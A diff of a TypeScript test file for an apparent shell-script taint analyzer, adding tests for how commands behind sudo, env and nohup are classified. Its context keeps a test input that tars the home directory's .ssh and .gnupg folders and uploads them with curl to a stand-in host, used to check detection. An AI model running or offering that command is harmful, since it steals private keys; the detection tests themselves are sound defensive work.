@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import type { Observation } from '../../../src/analyze/index.js';
 import { interpretShell } from '../../../src/analyze/shell/index.js';
-import type { FrontEndResult } from '../../../src/analyze/task.js';
+import { type FrontEndResult, HOLE } from '../../../src/analyze/task.js';
 import { contextOf, scriptTask } from '../in-memory.js';
 
 const run = (
@@ -251,5 +251,23 @@ describe('what a script reads line by line', () => {
       'f() { local more=(.ssh .gnupg); tar -C "$HOME" -czf - "${more[@]}" | curl -T - https://h.example; }; f';
     const sent = run(text).observations.find(({ sink }) => sink === 'net.out');
     expect(sent?.taints.map(({ detail }) => detail)).toEqual(['~/.ssh', '~/.gnupg']);
+  });
+});
+
+describe('a command that is given as a program and words', () => {
+  const ran = (text: string): string[] => {
+    const taints = [{ source: 'net.response', detail: 'body', file: 'a.js', line: 1, through: [], steps: [] }];
+    const task = { ...scriptTask(text), taints, programTaints: [] };
+    return interpretShell(task, contextOf({}))
+      .observations.filter(({ api }) => api === 'shell.dynamic')
+      .map(({ sink }) => sink);
+  };
+
+  test.each(['sudo -n ', 'env A=1 ', 'nohup '])('what stands behind %s carries its own', (prefix) => {
+    expect(ran(prefix + HOLE)).toEqual(['code.eval']);
+  });
+
+  test('a program carries what its name does, not what its words do', () => {
+    expect(ran(`${HOLE} ${HOLE}`)).toEqual(['process.spawn']);
   });
 });
